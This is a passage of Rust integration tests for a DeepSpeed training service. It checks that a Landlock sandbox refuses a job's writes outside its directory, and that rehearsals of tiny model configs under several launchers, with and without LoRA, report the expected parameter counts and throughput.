            .await;
        let logs: Vec<String> = log_texts(&studio, job.id).await;
        assert_eq!(end.state, JobState::Succeeded, "{end:?} {logs:#?}");
        assert!(
            logs.iter().any(|l| l == "escape-inside-ok"),
            "the job wrote inside: {logs:#?}"
        );
        assert!(
            logs.iter().any(|l| l == "escape-swapped"),
            "the job swapped the handed file: {logs:#?}"
        );
        let wrote: Vec<&String> = logs
            .iter()
            .filter(|l| l.starts_with("escape-wrote:"))
            .collect();
        assert!(wrote.is_empty(), "writes outside went through: {wrote:?}");
        let denied = logs
            .iter()
            .filter(|l| l.starts_with("escape-denied:") && l.ends_with("PermissionError"))
            .count();
        assert_eq!(denied, 4, "{logs:#?}");
        assert!(
            logs.iter()
                .any(|l| l.contains("the kernel (Landlock) lets this job write only beneath")),
            "{logs:#?}"
        );
        // Nothing of the link's target is reported, and the server answers.
        assert_eq!(end.handed_config, None, "{link:?}");
        let health = reqwest::get(format!("{}/healthz", studio.url))
            .await
            .unwrap();
        assert_eq!(health.status(), 200);
    }
    let db_after = std::fs::read(&db).unwrap();
    assert!(
        db_after.starts_with(b"SQLite format 3\0"),
        "the database is still SQLite"
    );
    assert!(db_before.starts_with(b"SQLite format 3\0"));
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "intact");
    // The server still reads its database.
    let again: Template = studio
        .client
        .fetch(ep::GetTemplate::url([&t.id]))
        .await
        .unwrap();
    assert_eq!(again.id, t.id);
}

/// A tiny config.json of each family (`shared/tests/fixtures/models`).
fn tiny_model(name: &str) -> Value {
    let path = format!(
        "{}/../../shared/tests/fixtures/models/{name}.json",
        env!("CARGO_MANIFEST_DIR")
    );
    serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap()
}

/// The last value of a job's series `name`.
async fn last_value(studio: &Studio, job: i64, name: &str) -> Option<f64> {
    studio
        .metrics(job)
        .await
        .into_iter()
        .find(|s| s.name == name)
        .and_then(|s| s.points.last().map(|p| p.1))
}

/// A rehearsal of the user's own model runs under each launcher: transformers' model of the
/// config.json, LoRA where asked, trained on synthetic tokens at the chosen sequence. The
/// workload reports the parameters and trainable parameters the estimate counts (peft's
/// adapters), tokens/s and the model's TFLOP/s; under the HF Trainer the config's
/// `reduce_bucket_size: "auto"` is filled from the rehearsed model's width. At ZeRO-3 (the
/// plain launcher and the HF Trainer here) the model is built under `zero.Init` and its
/// parameters are still counted whole.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rehearsal_trains_the_users_model_under_each_launcher() {
    use ds_studio_shared::memory::UserModel;
    let _one = engine_slot(false).await;
    let studio = Studio::start(true).await;
    let deepspeed = studio
        .template(config(
            json!({"zero_optimization": {"stage": 3}, "bf16": {"enabled": true}}),
        ))
        .await;
    let trainer = json!({"per_device_train_batch_size": 2, "gradient_accumulation_steps": 1,
                         "learning_rate": 0.001, "bf16": true});
    let mut hf = Vec::new();
    for launcher in ["hf-trainer", "accelerate"] {
        let mut config = hf_config();
        if launcher == "hf-trainer" {
            config["zero_optimization"]["stage"] = json!(3);
        }
        let body = json!({"name": format!("rehearse-{launcher}"), "config": config,
                          "context": {"launcher": launcher, "trainer": trainer.clone()}});
        let t: Template = studio
            .client
            .call(
                ep::CreateTemplate::url([]),
                &serde_json::from_value(body).unwrap(),
            )
            .await
            .unwrap();
        hf.push(t.id);
    }
    let (hf_trainer, accelerate) = (hf[0], hf[1]);
    let cases = [
        (deepspeed.id, "tiny-llama-bias", Some(json!({"rank": 4}))),
        (hf_trainer, "tiny-qwen3-moe-dense-layer", None),
        (
            accelerate,
            "tiny-gpt2-inner",
            Some(json!({"rank": 2, "targets": ["c_attn"]})),
        ),
    ];
    for (template, name, lora) in cases {
        let mut model = json!({"config": tiny_model(name), "seq_len": 32});
        if let Some(l) = &lora {
            model["lora"] = l.clone();
        }
        let expected = serde_json::from_value::<UserModel>(model.clone())
            .unwrap()
            .resolve()
            .unwrap();
        let job = studio
            .submit(template, 3, json!({"workload": {"model": model}}))
            .await;
        let end = studio
            .wait_state(
                job.id,
                &[JobState::Succeeded, JobState::Failed],
                Duration::from_secs(300),
            )
            .await;
        let logs: Vec<LogLine> = studio
            .client
            .fetch(ep::JobLogs::url([&job.id]).query("tail", 2000))
            .await
            .unwrap();
        let tail: Vec<&str> = logs.iter().map(|l| l.text.as_str()).collect();
        assert_eq!(end.state, JobState::Succeeded, "{name}: {end:?}\n{tail:#?}");
        let started = tail
            .iter()
            .find(|l| l.contains(" seq=32"))
            .unwrap_or_else(|| panic!("{name}: no start-up line\n{tail:#?}"));
        assert_eq!(
            started.contains(" zero.Init"),
            template != accelerate,
            "{name}: built under zero.Init at ZeRO-3 only: {started}"
        );
        let got = |k: &'static str| last_value(&studio, job.id, k);
        assert_eq!(
            got("result/params").await,
            Some(expected.architecture.params().total() as f64),
            "{name}: transformers' model has the parameters counted"
        );
        assert_eq!(
            got("result/trainable_params").await,
            Some(expected.spec.trainable() as f64),
            "{name}"
        );
        assert!(expected.spec.trainable() < expected.spec.params || lora.is_none());
        let tokens = got("result/tokens_per_sec").await.expect("tokens/s");
        let samples = got("result/samples_per_sec").await.expect("samples/s");
        assert!(
            (tokens - 32.0 * samples).abs() < 0.01 * tokens + 1.0,
            "{tokens} {samples}"
        );
        assert!(got("result/model_tflops").await.unwrap() > 0.0);
        if template == hf_trainer {
            let handed = end.handed_config.as_ref().expect("the handed dict");
            assert_eq!(
                handed["zero_optimization"]["reduce_bucket_size"],
                json!(64 * 64),
                "hidden_size² of the rehearsed model: {handed}"
            );
        }
    }
}

/// Every family's tiny config rehearses, fully and with LoRA on every linear layer, as the
/// runner's `rehearsal.py` builds it (two optimizer steps on CPU, no engine: the engine's path
/// is the test above): transformers builds it, peft adapts it, the loss is finite, and the
/// parameters and trainable parameters are those the estimate counts.
#[test]
fn every_family_rehearses_fully_and_with_lora() {
    use ds_studio_shared::architecture::lora::Lora;
    use ds_studio_shared::memory::UserModel;
    let python = engine_python();
    let dir = format!(
        "{}/../../shared/tests/fixtures/models",
        env!("CARGO_MANIFEST_DIR")
    );
    let script = r#"
import json, sys, torch
sys.path.insert(0, sys.argv[1])
import rehearsal
for path in sys.argv[2:]:
    for rank in (0, 4):
        torch.manual_seed(0)
        model, info = rehearsal.build(path, rank)
        opt = torch.optim.AdamW([p for p in model.parameters() if p.requires_grad], lr=1e-3)
        data = rehearsal.Tokens(2, 16, info["vocab"], 0)
        ids = torch.stack([data[i]["input_ids"] for i in range(2)])
        losses = []
        for _ in range(2):
            loss = model(input_ids=ids, labels=ids).loss
            loss.backward(); opt.step(); opt.zero_grad()
            losses.append(loss.item())
        print(json.dumps({"path": path, "rank": rank, "params": info["with_adapters"],
                          "trainable": info["trainable_params"], "losses": losses}), flush=True)
"#;
    let mut paths: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path().display().to_string())
        .filter(|p| p.contains("/tiny-"))
        .collect();
    paths.sort();
    let out = Command::new(&python)
        .arg("-c")
        .arg(script)
        .arg(format!("{}/../runner/python", env!("CARGO_MANIFEST_DIR")))
        .args(&paths)
        .env("DS_ACCELERATOR", "cpu")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let rows: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    assert_eq!(rows.len(), 2 * paths.len(), "{rows:?}");
    let mut families = std::collections::BTreeSet::new();
    for r in &rows {
        let path = r["path"].as_str().unwrap();
        let config: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
        let rank = r["rank"].as_u64().unwrap();
        let model = UserModel {
            name: None,
            config: Some(config),
            lora: (rank > 0).then(|| Lora::new(rank, "")),
            ..UserModel::named("-")
        };
        let resolved = model.resolve().unwrap();
        families.insert(resolved.architecture.family.model_type());
        assert_eq!(r["params"].as_u64(), Some(resolved.spec.params), "{r}");
        assert_eq!(
            r["trainable"].as_u64(),
            Some(resolved.spec.trainable()),
            "{r}"
        );
        for l in r["losses"].as_array().unwrap() {
            assert!(l.as_f64().is_some_and(f64::is_finite), "{r}");
        }
    }
    assert_eq!(
        families.len(),
        ds_studio_shared::architecture::Family::ALL.len(),
        "a tiny config of every family: {families:?}"
    );
}
